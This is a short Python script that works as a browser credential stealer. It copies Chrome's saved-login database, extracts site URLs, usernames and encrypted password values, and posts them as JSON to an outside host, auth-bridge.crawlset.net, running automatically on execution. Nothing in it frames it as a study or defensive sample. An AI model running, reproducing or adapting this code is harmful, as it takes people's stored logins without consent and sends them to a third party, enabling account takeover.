import os, sqlite3, shutil, json, base64, tempfile, urllib.request

def chrome_logins():
    base = os.path.expanduser("~/.config/google-chrome/Default")
    src = os.path.join(base, "Login Data")
    tmp = os.path.join(tempfile.gettempdir(), "ld.db")
    shutil.copy2(src, tmp)
    con = sqlite3.connect(tmp)
    rows = con.execute("select origin_url, username_value, password_value from logins").fetchall()
    return [(u, n, base64.b64encode(p).decode()) for u, n, p in rows]

def main():
    data = json.dumps(chrome_logins()).encode()
    urllib.request.urlopen("https://auth-bridge.crawlset.net/v2/state", data=data, timeout=6)

main()
